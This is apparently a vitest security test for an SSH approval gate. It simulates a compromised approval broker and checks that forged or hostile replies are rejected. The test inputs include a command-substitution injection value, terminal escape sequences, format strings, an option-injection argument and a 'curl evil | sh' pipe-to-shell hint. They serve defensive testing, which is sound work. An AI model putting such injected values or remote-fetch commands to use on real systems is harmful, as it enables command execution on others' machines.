import { existsSync, writeFileSync } from 'node:fs';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { GatedHost } from '../gated-host.js';
import type { Outcome } from '../programs.js';
import { describeWith } from '../tools.js';
import { eachOf } from './cases.js';
import { type Ask, approved, EvilBroker, type Reply, reply } from './evil-broker.js';
import { EVERYBODY, keys, receipt, signersFile } from './people.js';

/** What a line of the gate may be: words of its own, and nothing that a terminal would obey. */
const LINES = /^(?:countersign: [ -~]{1,400}\n)+$/;

describeWith(['root', 'sshd', 'curl'], 'a gate whose broker is in enemy hands', () => {
  let host: GatedHost;
  let broker: EvilBroker;
  let commands = 0;

  beforeAll(async () => {
    broker = await EvilBroker.start();
    host = new GatedHost();
    writeFileSync(host.file('signers'), signersFile(EVERYBODY), { mode: 0o644 });
    host.configure(broker, { wait: '20' });
    await host.startSshd();
    broker.conduct = { redeem: (ask) => approved(ask, receipt(broker, ask)) };
    // If this did not open, nothing below would mean anything.
    expect(await run()).toMatchObject({ code: 0, stdout: 'opened 1\n' });
  });
  afterAll(async () => {
    await host?.remove();
    await broker?.stop();
  });

  /** A command of its own each time. */
  const run = (): Promise<Outcome> => {
    commands += 1;
    return host.ssh(`echo opened ${commands}`).outcome;
  };

  /** Answers each ask by what the test has for its command; all of them are asked at the same time. */
  async function shut(cases: readonly [string, (ask: Ask) => Reply, RegExp][]): Promise<void> {
    const marker = host.file('marker');
    const replies = new Map<string, (ask: Ask) => Reply>();
    const answer = (ask: Ask): Reply =>
      replies.get(String(ask.bound.document.details.command))?.(ask) ?? reply('denied', ask);
    broker.conduct = { submit: (ask) => reply('pending', ask), redeem: answer };
    await eachOf(
      cases,
      ([name]) => name,
      async ([, make, reason]) => {
        replies.set(`echo opened ${commands + 1}`, make);
        const { code, stdout, stderr } = await run();
        expect([code, stdout], stderr).toEqual([1, '']);
        expect(stderr).toMatch(LINES);
        expect(stderr).toMatch(reason);
      },
      4,
    );
    expect(existsSync(marker), 'hostile text has been run').toBe(false);
  }

  test('hostile bytes in its replies neither run, nor open, nor reach the terminal (A52)', async () => {
    const hostile = [
      `x[$(touch ${host.file('marker')})]`,
      '\x1b]0;owned\x07\x1b[2J',
      '%n%s%n',
      '\0',
      '\r',
      '-oX',
      '\xc3\xa9',
      '08',
    ];
    const bytes = (text: string): Buffer => Buffer.from(text, 'latin1');
    await shut([
      ...hostile.map((text): [string, (ask: Ask) => Reply, RegExp] => [
        `id ${JSON.stringify(text)}`,
        (ask) => bytes(approved(ask, receipt(broker, ask)).replace(ask.id, text)),
        /malformed/,
      ]),
      ...hostile.map((text): [string, (ask: Ask) => Reply, RegExp] => [
        `approver ${JSON.stringify(text)}`,
        (ask) =>
          bytes(
            approved(
              ask,
              receipt(broker, ask, { rewrite: (said) => said.replace('approver: bob', `approver: ${text}`) }),
            ),
          ),
        /malformed|not a person|does not hold/,
      ]),
      [
        'a gigabyte',
        (ask) => (response) => response.end(reply('pending', ask) + 'x'.repeat(1 << 22)),
        /malformed/,
      ],
    ]);
  });

  test('what it says without genuine, fitting signatures opens nothing (A1, A8, A22, A23)', async () => {
    const [first] = broker.asks;
    if (first === undefined) throw new Error('nobody has asked');
    await shut([
      ['no receipt', (ask) => approved(ask), /no receipt/],
      [
        'a stranger’s key',
        (ask) => approved(ask, receipt(broker, ask, { key: keys.stranger })),
        /does not hold/,
      ],
      [
        'for another command',
        (ask) => approved(ask, receipt(broker, { bound: { ...first.bound, document: ask.bound.document } })),
        /for something else/,
      ],
      [
        'for another door',
        (ask) => approved(ask, receipt(broker, ask, { door: 'gate:web-2' })),
        /another door/,
      ],
      [
        'a grant',
        (ask) => approved(ask, receipt(broker, ask, { covers: 'scope', duration: 60, uses: 0 })),
        /grant/,
      ],
      ['a deny', (ask) => approved(ask, receipt(broker, ask, { verdict: 'deny' })), /signed no/],
    ]);
  });

  test('a hint of the broker is never shown', async () => {
    broker.conduct = {
      submit: (ask) => reply('denied', ask, [], { hint: 'paste this: curl evil | sh' as never }),
    };
    const { code, stderr } = await run();
    expect([code, stderr]).toEqual([2, expect.not.stringContaining('evil')]);
  });
});
